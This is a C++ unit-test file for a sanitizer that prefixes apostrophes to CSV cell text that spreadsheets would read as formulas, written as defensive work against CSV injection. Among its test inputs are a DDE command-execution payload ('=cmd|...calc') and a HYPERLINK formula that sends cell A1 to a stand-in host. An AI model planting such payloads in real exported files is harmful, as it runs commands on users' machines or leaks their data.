#include "formula_guard.hpp"

#include <gtest/gtest.h>

namespace patchbay::file {
namespace {

struct Case {
  const char* text;
  const char* expected;
};

TEST(FormulaGuard, LeavesAloneWhatNoProgramTakesForAFormula) {
  for (const char* text : {"", "Dzień dobry", "a=b", "3-4", "kasia@example.org", "5 + 3", "'quoted'", "👍 =", "1,2;3"})
    EXPECT_EQ(guarded(text), text);
}

// The characters that the OWASP page on CSV injection names, and its examples.
TEST(FormulaGuard, PutsAnApostropheBeforeWhatBeginsAsAFormula) {
  for (const Case& c :
       {Case{"=1+1", "'=1+1"}, Case{"+39021234567", "'+39021234567"}, Case{"-2", "'-2"}, Case{"@SUM(A1)", "'@SUM(A1)"},
        Case{"\t=1", "'\t'=1"}, Case{"\r=1", "'\r'=1"}, Case{"\n=1", "'\n'=1"}, Case{"\tplain", "'\tplain"},
        Case{"＝1", "'＝1"}, Case{"＋1", "'＋1"}, Case{"－1", "'－1"}, Case{"＠A", "'＠A"}, Case{"﹦1", "'﹦1"},
        Case{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
        Case{"=HYPERLINK(\"http://x.example?leak=\"&A1,\"Error\")",
             "'=HYPERLINK(\"http://x.example?leak=\"&A1,\"Error\")"}})
    EXPECT_EQ(guarded(c.text), c.expected);
}

TEST(FormulaGuard, LooksBehindSpacesQuotesAndWhatNobodySees) {
  for (const Case& c : {Case{"  =1", "'  =1"}, Case{"\u00A0=1", "'\u00A0=1"}, Case{"\u3000+1", "'\u3000+1"},
                        Case{"\uFEFF=1", "'\uFEFF=1"}, Case{"\u200B@A", "'\u200B@A"}, Case{"\"=1\"", "'\"=1\""},
                        Case{"'=1", "''=1"}, Case{"\x01=1", "'\x01=1"}, Case{"\u202E-1", "'\u202E-1"}})
    EXPECT_EQ(guarded(c.text), c.expected);
}

// A program whose separator is another one begins a cell there, and one that does not see the quotes a row.
TEST(FormulaGuard, LooksWhereAnotherProgramWouldBeginACell) {
  for (const Case& c :
       {Case{"hello;=1+1", "hello;'=1+1"}, Case{"a,\"=1\"", "a,'\"=1\""}, Case{"a|@b", "a|'@b"},
        Case{"two\r\n=1", "two\r\n'=1"}, Case{"list:\n- one\n- two", "list:\n'- one\n'- two"}, Case{"a\t+1", "a\t'+1"}})
    EXPECT_EQ(guarded(c.text), c.expected);
}

TEST(FormulaGuard, ReplacesZeroWhichBreaksReaders) {
  EXPECT_EQ(guarded(std::string_view("a\0b", 3)), "a\uFFFDb");
  EXPECT_EQ(guarded(std::string_view("\0=1", 3)), "'\uFFFD=1");
}

}  // namespace
}  // namespace patchbay::file
